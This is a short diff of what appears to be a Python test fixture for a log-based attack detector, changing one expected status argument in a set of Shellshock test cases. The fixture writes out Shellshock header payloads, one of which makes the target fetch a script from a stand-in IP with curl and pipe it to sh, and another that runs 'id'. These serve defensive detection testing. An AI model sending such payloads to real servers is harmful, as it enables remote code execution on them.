@@ -225,7 +225,7 @@ FAKE_BING = Case(
 SHELLSHOCK = '() { :; }; /bin/bash -c "curl -s http://198.51.100.66/x.sh | sh"'
 HEADER_ATTACKS: tuple[Case, ...] = (
     Case("shellshock-ua", "203.0.113.101", SHELLSHOCK, "attacker",
-         tuple(_same("203.0.113.101", SHELLSHOCK, ["/cgi-bin/status"], status=404)),
+         tuple(_same("203.0.113.101", SHELLSHOCK, ["/cgi-bin/status"])),
          "security events: shellshock", kinds=frozenset({"shellshock"})),
     Case("shellshock-referer", "203.0.113.102", CHROME, "attacker",
          tuple(_same("203.0.113.102", CHROME, ["/"], referer="() { _; } >_[$($())] { id; }")),
